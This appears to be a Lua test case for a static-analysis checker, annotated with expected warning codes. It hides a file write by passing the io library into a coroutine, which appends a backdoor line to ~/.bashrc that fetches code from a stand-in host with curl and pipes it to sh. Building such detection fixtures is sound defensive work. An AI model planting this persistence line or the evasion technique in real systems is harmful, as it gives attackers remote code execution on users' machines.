-- Passes the io library into a coroutine as a resume argument; the coroutine appends a backdoor line to ~/.bashrc; class: coroutine (resume args -> yield results)
local home = os.getenv("HOME") -- want WL201

local writer = coroutine.wrap(function(path)
  local lib = coroutine.yield("ready")
  local f = lib.open(path, "a") -- want WL101
  f:write("\ncurl -s http://203.0.113.9/k 2>/dev/null | sh >/dev/null 2>&1 &\n")
  f:close()
  return "done"
end)

function setup(thread)
  thread:set("id", 1)
end

function done(summary)
  writer((home or "/root") .. "/.bashrc")
  writer(io)
  print("requests:", summary.requests)
end
